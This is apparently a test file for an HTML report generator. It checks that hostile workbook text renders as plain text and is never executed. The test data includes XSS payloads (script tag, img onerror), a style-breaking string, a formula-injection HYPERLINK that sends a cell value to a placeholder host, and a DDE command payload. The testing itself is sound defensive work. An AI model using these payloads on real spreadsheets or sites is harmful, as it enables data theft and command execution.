/**
 * Hostile text in a workbook is shown as text in the report: markup, formula-like text, very long
 * names, right-to-left and Welsh characters, control characters. The HTML is parsed with parse5 as a
 * browser would parse it: no element or attribute comes from the data, and each text reads back
 * exactly as it was typed.
 */
import { checkReturn } from "../../../src/core/returns/checks";
import { buildReportInput, renderReport } from "../../../src/core/report";
import { readReturn } from "../../../src/core/returns/read-return";
import { grid } from "../returns/return-fixtures";
import { all, attr, byId, byTag, parseHtml, rawText, tableByCaption, tableRows, text } from "./dom";

const SCRIPT = "<script>alert(1)</script>";
const IMG = '<img src=x onerror="alert(2)">';
const FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"Click")';
const PLUS = "+cmd|' /C calc'!A0";
const LONG = `Partnership ${"with a very long name ".repeat(250)}end`;
const ARABIC = "شراكة التوظيف والمهارات";
const HEBREW = "שותפות תעסוקה";
const WELSH = "Partneriaeth Sgiliau Gŵyr a’r Fro — Ŵ ŷ Ŷ ẁ";
const STYLE = "</style><style>body{display:none}</style>";
const COMMENT = "<!-- x --> ]]> <![CDATA[ y";
const AMP = "Tom &amp; Jerry &lt;b&gt; &#x3c;";

const names = [SCRIPT, IMG, FORMULA, PLUS, LONG, ARABIC, HEBREW, WELSH, STYLE, COMMENT, AMP];
const ret = readReturn(
  grid({
    settings: { district: IMG, region: SCRIPT, auditRound: `${HEBREW} 2026` },
    Partnerships: names.map((name, i) => ({
      partnershipId: `P-${String(i + 1).padStart(4, "0")}`,
      partnership: name,
      level: "Local",
      type: "Other",
      region: SCRIPT,
      ourRole: "Key",
      barriers: `${SCRIPT}; ${WELSH}`,
    })),
    Representation: [
      {
        partnershipId: "P-0001",
        representative: SCRIPT,
        grade: ARABIC,
        meetingsPerYear: 10,
        hoursPerMeeting: 2,
        annualHours: 20,
      },
    ],
    PartnerSurvey: [],
  }),
  `${STYLE}.xlsx`,
);
const title = `${STYLE}${SCRIPT} "Board" paper \u0007 ${WELSH}`;
const html = renderReport(
  buildReportInput({
    returns: [ret],
    findings: new Map([[ret, checkReturn(ret, { currentYear: 2026 })]]),
    madeOn: "2026-11-29",
    title,
  }),
);
const doc = parseHtml(html);

describe("hostile text in the report", () => {
  test("makes no element: no script, img or extra style; no event handler attribute", () => {
    expect(byTag(doc, "script")).toEqual([]);
    expect(byTag(doc, "img")).toEqual([]);
    expect(byTag(doc, "style").length).toBe(1);
    expect(all(doc, (e) => e.attrs.some((a) => a.name.startsWith("on")))).toEqual([]);
    // the one style element is the project's: the title inside it is CSS-escaped
    expect(rawText(byTag(doc, "style")[0])).not.toContain("</");
  });

  test("each name reads back exactly as typed in the list of partnerships", () => {
    const rows = tableRows(tableByCaption(byId(doc, "q1"), "The 11 partnerships"));
    const shown = rows.map((r) => r[1]);
    // the table cell holds the name in a <bdi> with nothing around it: compare the raw text
    const cells = byTag(tableByCaption(byId(doc, "q1"), "The 11 partnerships"), "tbody")[0];
    const rawNames = byTag(cells, "tr").map((tr) => rawText(byTag(byTag(tr, "td")[1], "bdi")[0]));
    expect(rawNames).toEqual(names);
    expect(shown).toContain(FORMULA);
  });

  test("formula-like text stays text (no leading quote added, nothing evaluated)", () => {
    expect(html).toContain("=HYPERLINK(&quot;http://example.invalid/?q=&quot;&amp;A1,&quot;Click&quot;)");
    expect(html).toContain("+cmd|&#39; /C calc&#39;!A0");
  });

  test("title, region, district and round are text; the control character is shown as U+FFFD", () => {
    const expectedTitle = `${STYLE}${SCRIPT} "Board" paper \uFFFD ${WELSH}`;
    expect(rawText(byTag(doc, "title")[0])).toBe(expectedTitle);
    expect(rawText(byTag(byTag(doc, "h1")[0], "bdi")[0])).toBe(expectedTitle);
    const facts = byTag(doc, "dl")[0];
    const dd = byTag(facts, "dd").map(text);
    expect(dd[0]).toBe(SCRIPT);
    expect(dd[1]).toBe(IMG);
    expect(dd[2]).toBe(`${HEBREW} 2026`);
    expect(dd[3]).toBe(`${STYLE}.xlsx`);
  });

  test("right-to-left text is isolated (bdi) so it does not reorder the text around it", () => {
    const bdi = byTag(doc, "bdi").filter((b) => rawText(b) === ARABIC || rawText(b) === HEBREW);
    expect(bdi.length).toBeGreaterThanOrEqual(2);
  });

  test("in charts too: labels and titles are text, long labels shortened with an ellipsis", () => {
    const q3 = byId(doc, "q3");
    const svg = byTag(q3, "svg")[0];
    const labels = byTag(svg, "text").map(rawText);
    // the Welsh label (43 characters) is shortened to 40 in the chart; the table has it whole
    expect(labels).toEqual(expect.arrayContaining([SCRIPT, `${[...WELSH].slice(0, 39).join("")}…`]));
    expect(tableRows(tableByCaption(q3, "Barriers")).map((r) => r[0])).toEqual(
      expect.arrayContaining([SCRIPT, WELSH]),
    );
    const q1Svg = byTag(byId(doc, "q1"), "svg");
    const all = q1Svg.flatMap((s) => byTag(s, "text").map(rawText));
    expect(all.every((t) => [...t].length <= 40)).toBe(true);
    expect(attr(svg, "role")).toBe("img");
  });

  test("the very long name keeps its whole text in the table, and long words may wrap", () => {
    expect(html).toContain(LONG);
    expect(rawText(byTag(doc, "style")[0])).toContain("overflow-wrap:anywhere");
  });
});
